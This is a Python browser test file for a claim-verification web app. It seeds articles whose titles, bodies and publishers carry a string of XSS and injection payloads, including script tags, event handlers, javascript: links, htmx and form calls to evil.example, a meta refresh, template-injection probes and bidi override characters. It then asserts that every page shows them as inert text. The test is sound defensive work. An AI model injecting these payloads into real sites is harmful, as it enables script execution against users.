"""Promises of hostile articles: whatever they hold is shown as text, runs nothing and asks for nothing."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from tests.browser.browsing import PHONE, House, Seat, open_house, seated
from tests.crosscheck.cases import MAGNETS, article, claim, extraction
from tests.history.newsroom import Newsroom
from verifier import listing
from verifier.models import Article

ATTACK = (
    "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'><svg onload='window.pwned = 3'></svg>"
    "<a href='javascript:window.pwned = 4'>here</a><div hx-get='https://evil.example/' hx-trigger='load'></div>"
    "<form action='https://evil.example/'><button data-key='a' name='verdict'>Press</button></form>"
    "<iframe srcdoc='<script>parent.pwned = 5</script>'></iframe><style>* { display: none }</style>"
    "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'>"
    "</textarea></title></div></main>{{ 7 * 7 }}${7 * 7}\u202e\u2066\u200b"
)
FIGURES = "In July 2025 China shipped {} tonnes."
LINE = "x" * 500_000


def hostile(name: str, figure: str, text: str) -> tuple[Article, str]:
    words = FIGURES.format(figure)
    source = article(name + ATTACK, f"{ATTACK}\n{text} {words} {text}\n{ATTACK}", publisher=f"{name}{ATTACK}")
    return source.model_copy(update={"title": f"{name}{ATTACK}"}), words


@pytest.fixture(scope="module")
def seat(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Seat]:
    """Somebody at a store full of hostile articles, one of them a line of a million characters."""
    path = tmp_path_factory.mktemp("hostile") / "claims.duckdb"
    topic = MAGNETS.model_copy(update={"item": f"magnets{ATTACK}", "actor": f"China{ATTACK}"})
    sources = [hostile("a", "6,150", ATTACK), hostile("b", "5,493.9", LINE)]
    Newsroom(path).reads(*(extraction(one, claim(one, words, topic=topic)) for one, words in sources))
    with open_house(path) as house, seated(browser, house) as somebody:
        yield somebody


def pages(house: House) -> list[str]:
    """Return every page on which words of the articles stand."""
    with house.store.unit(keep=False) as unit:
        told = [*listing.claims_told(unit, house.claims()).values()]
    of_claims = [f"/claims/{held.claim.id}" for held in told]
    whole = [f"/articles/{held.article.id}?claim={held.claim.id}" for held in told]
    return ["/", *of_claims, *whole, f"/topics/{told[0].topic}", "/decisions"]


def test_hostile_articles_run_nothing_ask_for_nothing_and_hide_nothing(seat: Seat) -> None:
    seat.open(pages(seat.house)[1]).locator("#note").fill(ATTACK)
    seat.page.keyboard.press("Escape")
    seat.page.keyboard.press("x")
    seat.page.locator(".done").wait_for()

    for path in pages(seat.house):
        page = seat.open(path)
        assert page.evaluate("window.pwned === undefined && document.scripts.length === 1"), path
        assert 0 == page.locator("main :is([hx-get], iframe, img, [onload], [href^=javascript])").count(), path
        assert "<script>window.pwned = 1</script>" in page.locator("main").inner_text(), path

    assert [] == seat.foreign()
    assert [] == seat.complaints


def test_a_line_of_a_million_characters_and_marks_that_turn_text_round_stay_in_their_place(seat: Seat) -> None:
    seat.page.set_viewport_size({"width": PHONE[0], "height": PHONE[1]})

    for path in pages(seat.house):
        page = seat.open(path)
        assert 0 == seat.runs_over(), path
        assert not page.evaluate("/[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText)"), path
